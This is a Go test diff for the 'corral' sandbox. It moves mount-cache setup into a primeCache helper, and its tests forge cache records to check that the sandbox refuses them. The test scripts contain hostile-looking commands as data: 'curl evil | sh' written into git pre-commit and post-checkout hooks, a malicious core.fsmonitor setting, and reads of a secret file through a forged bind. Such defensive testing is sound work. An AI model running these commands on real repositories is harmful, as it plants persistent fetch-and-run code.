@@ -228,14 +228,7 @@ func TestMountCacheForged(t *testing.T) {
 		script := `cat /forged/secret.txt; ls /forged; echo evil > /forged/planted
 echo 'curl evil | sh' > .git/hooks/pre-commit; echo 'curl evil | sh' > .git/hooks/post-checkout
 printf '[core]\n\tfsmonitor = evil\n' >> .git/config`
-		first := cachedRun(t, u, f.work, f.skills, env, "true")
-		if first.file == "" || !first.saved {
-			t.Fatalf("no cache was saved:\n%s", first.result)
-		}
-		honest, err := os.ReadFile(first.file)
-		if err != nil {
-			t.Fatal(err)
-		}
+		file, honest := primeCache(t, u, f.work, f.skills, env, "true")
 		header, records := cacheRecords(t, honest)
 		forged := append([]byte{}, header...)
 		dropped := 0
@@ -250,7 +243,7 @@ printf '[core]\n\tfsmonitor = evil\n' >> .git/config`
 			t.Fatalf("the cache holds no mount for .git/hooks or .git/config:\n%q", honest)
 		}
 		forged = append(forged, mountRecord("b", "-D", f.outside, "/forged")...)
-		writeCache(t, u, first.file, forged)
+		writeCache(t, u, file, forged)
 
 		r := cachedRun(t, u, f.work, f.skills, env, script)
 		if r.ahead != "built" || r.pivot {
@@ -264,7 +257,7 @@ printf '[core]\n\tfsmonitor = evil\n' >> .git/config`
 			t.Errorf("the command wrote into the secret folder through the forged bind")
 		}
 		checkProtected(t, f.work, r.result)
-		if got, _ := os.ReadFile(first.file); !bytes.Equal(got, honest) {
+		if got, _ := os.ReadFile(file); !bytes.Equal(got, honest) {
 			t.Errorf("the forged cache was not replaced by the plan's mounts")
 		}
 	})
@@ -280,14 +273,7 @@ func TestMountCacheBadFiles(t *testing.T) {
 		f := newCacheFixture(t, u)
 		env := mountCacheEnv(t, u)
 		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), "true")
-		first := cachedRun(t, u, f.work, f.skills, env, "true")
-		if first.file == "" || !first.saved {
-			t.Fatalf("no cache was saved:\n%s", first.result)
-		}
-		honest, err := os.ReadFile(first.file)
-		if err != nil {
-			t.Fatal(err)
-		}
+		file, honest := primeCache(t, u, f.work, f.skills, env, "true")
 		header, records := cacheRecords(t, honest)
 		otherKey := append([]byte{}, honest...)
 		otherKey[len(header)-1] ^= 0xff
@@ -342,7 +328,7 @@ func TestMountCacheBadFiles(t *testing.T) {
 			}, "cache: not this user's, or the wrong size"},
 		}
 		for _, c := range cases {
-			c.plant(first.file)
+			c.plant(file)
 			r := cachedRun(t, u, f.work, f.skills, env, "true")
 			if r.code != 0 || r.pivot || !strings.Contains(r.ahead, c.why) {
 				t.Errorf("%s: exit %d, ahead %q, pivot %v; want 0, %q, the plan's mounts\n%s", c.name, r.code, r.ahead, r.pivot, c.why, r.result)
@@ -350,7 +336,7 @@ func TestMountCacheBadFiles(t *testing.T) {
 			if r.mounts != plain.mounts {
 				t.Errorf("%s: the sandbox's mounts differ from a run without the cache:\nwithout:\n%s\nwith:\n%s", c.name, plain.mounts, r.mounts)
 			}
-			if got, _ := os.ReadFile(first.file); !bytes.Equal(got, honest) || !r.saved {
+			if got, _ := os.ReadFile(file); !bytes.Equal(got, honest) || !r.saved {
 				t.Errorf("%s: corral did not write a good cache over it (saved: %v)", c.name, r.saved)
 			}
 		}
@@ -367,9 +353,7 @@ func TestMountCacheStale(t *testing.T) {
 		f := newCacheFixture(t, u)
 		env := mountCacheEnv(t, u)
 		script := "ls " + f.extra + "; echo made > " + f.extra + "/made"
-		if first := cachedRun(t, u, f.work, f.skills, env, script); !first.saved {
-			t.Fatalf("no cache was saved:\n%s", first.result)
-		}
+		primeCache(t, u, f.work, f.skills, env, script)
 		if err := os.RemoveAll(f.extra); err != nil {
 			t.Fatal(err)
 		}
@@ -463,14 +447,7 @@ func TestMountCacheAheadChangesNoHostFile(t *testing.T) {
 		attack(t, "filesystem", "a forged mount cache that makes files through a writable bind")
 		f := newCacheFixture(t, u)
 		env := mountCacheEnv(t, u)
-		first := cachedRun(t, u, f.work, f.skills, env, "true")
-		if !first.saved {
-			t.Fatalf("no cache was saved:\n%s", first.result)
-		}
-		honest, err := os.ReadFile(first.file)
-		if err != nil {
-			t.Fatal(err)
-		}
+		file, honest := primeCache(t, u, f.work, f.skills, env, "true")
 		for _, rec := range [][]string{
 			{"w", "-", "curl evil | sh\n", f.work + "/planted-file"},
 			{"c", "-", "/etc/hostname", f.work + "/planted-copy"},
@@ -479,7 +456,7 @@ func TestMountCacheAheadChangesNoHostFile(t *testing.T) {
 			{"t", "-", "", f.work + "/planted-tmpfs"},
 			{"b", "-", f.extra, f.work + "/planted-mount-point"},
 		} {
-			writeCache(t, u, first.file, append(append([]byte{}, honest...), mountRecord(rec...)...))
+			writeCache(t, u, file, append(append([]byte{}, honest...), mountRecord(rec...)...))
 			r := cachedRun(t, u, f.work, f.skills, env, "true")
 			if r.code != 0 || r.pivot || !strings.Contains(r.ahead, "Invalid cross-device link") {
 				t.Errorf("record %q: exit %d, ahead %q, pivot %v; want 0, refused (EXDEV), the plan's mounts\n%s", rec, r.code, r.ahead, r.pivot, r.result)
@@ -508,12 +485,9 @@ func TestMountCacheForgedSources(t *testing.T) {
 		env := mountCacheEnv(t, u)
 		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), "echo *; echo planted > planted")
 		os.Remove(filepath.Join(f.work, "planted"))
-		first := cachedRun(t, u, f.work, f.skills, env, "true")
-		if !first.saved {
-			t.Fatalf("no cache was saved:\n%s", first.result)
-		}
-		header, _ := cacheRecords(t, readCache(t, first.file))
-		fifo := filepath.Join(filepath.Dir(first.file), "fifo")
+		file, honest := primeCache(t, u, f.work, f.skills, env, "true")
+		header, _ := cacheRecords(t, honest)
+		fifo := filepath.Join(filepath.Dir(file), "fifo")
 		if err := syscall.Mkfifo(fifo, 0o600); err != nil {
 			t.Fatal(err)
 		}
@@ -529,7 +503,7 @@ func TestMountCacheForgedSources(t *testing.T) {
 			for _, rec := range block {
 				forged = append(forged, mountRecord(rec...)...)
 			}
-			writeCache(t, u, first.file, forged)
+			writeCache(t, u, file, forged)
 			r := cachedRun(t, u, f.work, f.skills, env, "echo *; echo planted > planted")
 			if r.code != 0 || r.pivot || r.mounts != plain.mounts || r.stdout != plain.stdout {
 				t.Errorf("%s: exit %d, ahead %q, pivot %v; want 0, the plan's root and output\nwithout the cache:\n%s\nwith:\n%s", name, r.code, r.ahead, r.pivot, plain.result, r.result)
@@ -546,14 +520,19 @@ func TestMountCacheForgedSources(t *testing.T) {
 	})
 }
 
-// readCache reads a cache file.
-func readCache(t *testing.T, file string) []byte {
+// primeCache runs script once, so corral saves the cache for these
+// options, and returns the cache file and what it holds.
+func primeCache(t *testing.T, u user, work string, skills, env []string, script string) (file string, data []byte) {
 	t.Helper()
-	data, err := os.ReadFile(file)
+	first := cachedRun(t, u, work, skills, env, script)
+	if first.file == "" || !first.saved {
+		t.Fatalf("no cache was saved:\n%s", first.result)
+	}
+	data, err := os.ReadFile(first.file)
 	if err != nil {
 		t.Fatal(err)
 	}
-	return data
+	return first.file, data
 }
 
 // TestMountCacheProtectedReplaced changes .git/config on the host after
@@ -570,9 +549,7 @@ func TestMountCacheProtectedReplaced(t *testing.T) {
 				attack(t, "filesystem", "a protected file "+how+" between the root built ahead and the hold")
 				f := newCacheFixture(t, u)
 				env := mountCacheEnv(t, u)
-				if first := cachedRun(t, u, f.work, f.skills, env, "true"); !first.saved {
-					t.Fatalf("no cache was saved:\n%s", first.result)
-				}
+				primeCache(t, u, f.work, f.skills, env, "true")
 				config := filepath.Join(f.work, ".git", "config")
 				fresh := config + ".new"
 				writeFile(t, fresh, protectedFiles[".git/config"], 0o644)
